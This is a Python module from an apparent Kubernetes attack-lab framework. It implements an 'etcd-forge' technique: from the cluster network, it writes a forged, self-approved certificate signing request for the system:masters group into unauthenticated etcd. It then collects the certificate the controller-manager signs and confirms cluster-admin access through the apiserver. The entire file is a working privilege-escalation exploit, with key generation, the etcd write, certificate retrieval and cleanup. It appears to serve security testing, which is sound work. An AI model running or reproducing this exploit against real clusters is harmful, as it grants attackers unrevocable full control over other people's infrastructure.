"""Become cluster-admin by writing into etcd, from the cluster network.

Whoever writes to etcd goes around everything that the apiserver checks. What is written here
is a certificate signing request for a member of ``system:masters`` that says of itself that it
has been approved: the apiserver would never have let it in (its admission refuses that group),
but the controller-manager finds it, believes it, and signs it with the cluster's own authority.
No authorizer refuses anything to ``system:masters``, and Kubernetes cannot revoke a certificate.
"""

from __future__ import annotations

import json
import re
import secrets
import time
from typing import TYPE_CHECKING, Any

from labkit.errors import ProbeError, ProbeTimeout
from labkit.model import Channel, View, build_model, channels
from labkit.techniques._base import ADMIN, NETWORK, Prediction, Technique
from labkit.techniques._etcd import ask, client_channel, decode, encode, takes_anybody
from labkit.techniques._reach import Answer, attacker, request, run
from labkit.techniques._verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE", "forge"]

USER, GROUP = "labkit-forged", "system:masters"
KEY = f"/registry/certificatesigningrequests/{USER}"
#: The apiserver's own: it takes no shorter one.
VALID_S = 600
PATIENCE = 20.0
REVIEW = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
MAKE_KEY = """
set -eu; umask 077; mkdir "$1"; cd "$1"
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout key \
  -subj "/O=$3/CN=$2" 2>/dev/null
"""


def predict(view: View, foothold: str) -> Prediction:
    """Say what the model says: whether etcd asks who calls."""
    return takes_anybody(view)


def forge(lab: Lab, foothold: str) -> Verdict:
    """Write an approved certificate request into etcd, and use what comes of it.

    Returns
    -------
    Verdict

    Raises
    ------
    ProbeTimeout
        An answer, or the certificate, did not come in time.
    """
    folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's machine
    server = client_channel(lab).server
    evidence = [f"wrote to {server}, without a credential: {KEY}"]
    try:
        made = run(lab, attacker(lab), ["sh", "-c", MAKE_KEY, "-", folder, USER, GROUP], check=True)
        answer = ask(lab, "put", KEY, value=encode(json.dumps(_request(made.stdout)).encode()))
        if answer.refusal:
            evidence[0] = f"tried to write to {server}, without a credential: {KEY}"
            control = _control(lab)
            return Verdict(
                TECHNIQUE.name, lab.mode, foothold, False, answer.refusal, tuple(evidence), control
            )
        run(lab, attacker(lab), ["tee", f"{folder}/crt"], stdin=_certificate(lab), check=True)
        before, after = _who(lab), _who(lab, folder)
    finally:
        ask(lab, "deleterange", KEY)
        # With its key, the certificate is gone for good.
        run(lab, attacker(lab), ["rm", "-rf", folder])
    if GROUP not in after.get("groups", ()):
        raise ProbeError(f"the apiserver takes the forged certificate for {after}")
    evidence += [
        "the controller-manager signed it with the cluster's authority",
        f"to the apiserver, on its TLS port, the attacker was {before.get('username', 'nobody')}",
        f"and is now {after['username']}, in group {GROUP}",
    ]
    reason = f"HTTP {answer.status}, etcd takes what anybody writes; Kubernetes believes etcd"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, tuple(evidence))


def _request(csr: bytes) -> dict[str, Any]:
    """Return the object, as the apiserver would store it."""
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    approved = {
        "type": "Approved",
        "status": "True",
        "reason": "Forged",
        "message": "written by labkit past the apiserver",
        "lastUpdateTime": now,
        "lastTransitionTime": now,
    }
    return {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {
            "name": USER,
            "uid": f"{secrets.token_hex(4)}-0000-4000-8000-{secrets.token_hex(6)}",
            "creationTimestamp": now,
        },
        "spec": {
            "request": encode(csr),
            "signerName": "kubernetes.io/kube-apiserver-client",
            "expirationSeconds": VALID_S,
            "usages": ["client auth"],
            "username": "system:admin",
        },
        "status": {"conditions": [approved]},
    }


def _certificate(lab: Lab) -> bytes:
    """Wait for the certificate, by reading the request in etcd again."""
    deadline = time.monotonic() + PATIENCE
    pem = rb"-----BEGIN CERTIFICATE-----[^-]+-----END CERTIFICATE-----\n"
    while time.monotonic() < deadline:
        value = b"".join(decode(ask(lab, "range", KEY)))
        if found := re.search(pem, value):
            return found[0]
        time.sleep(0.3)
    raise ProbeTimeout(f"nobody signed the forged request within {PATIENCE:g} s")


def _who(lab: Lab, folder: str = "") -> dict[str, Any]:
    """Ask the apiserver's TLS port who one is to it, with the certificate or without."""
    secure = _secure(lab)
    url = f"https://{secure.server.split('@')[1]}:{secure.port}"
    options = ["--cert", f"{folder}/crt", "--key", f"{folder}/key"] if folder else []
    path = "/apis/authentication.k8s.io/v1/selfsubjectreviews"
    said: Answer = request(lab, url + path, body=json.dumps(REVIEW).encode(), options=options)
    if said.refusal and not folder:
        return {}
    try:
        found: dict[str, Any] = json.loads(said.body)["status"]["userInfo"]
    except (ValueError, KeyError) as error:
        raise ProbeError(f"{url}: {said.refusal or 'no answer to who I am'}") from error
    return found


def _secure(lab: Lab) -> Channel:
    found = channels(build_model(lab.environment))
    return next(
        c for c in found if c.server.startswith("kube-apiserver@") and c.protocol == "https"
    )


def _control(lab: Lab) -> str:
    """Let the apiserver write to etcd, and take it back."""
    name = ("configmap", "labkit-control", "--namespace=default")
    try:
        lab.kubectl("create", *name)
    finally:
        lab.kubectl("delete", *name, "--ignore-not-found")
    return "the apiserver writes to the same etcd: a ConfigMap was created and deleted"


TECHNIQUE = Technique(
    name="etcd-forge",
    title="Become cluster-admin by writing into etcd",
    footholds=(NETWORK,),
    grants=(ADMIN,),
    about="kube-apiserver@* -> etcd@*",
    properties=("encryption", "client_authentication", "authorization"),
    attack=("T1565.001", "T1098"),
    stride=("tampering", "elevation of privilege"),
    cwe=("CWE-306", "CWE-345"),
    sources=(
        "Securing communications in Kubernetes (2016), etcd",
        "https://kubernetes.io/docs/reference/access-authn-authz/certificate-signing-requests/",
        "https://attack.mitre.org/techniques/T1565/001/",
    ),
    predict=predict,
    execute=forge,
)
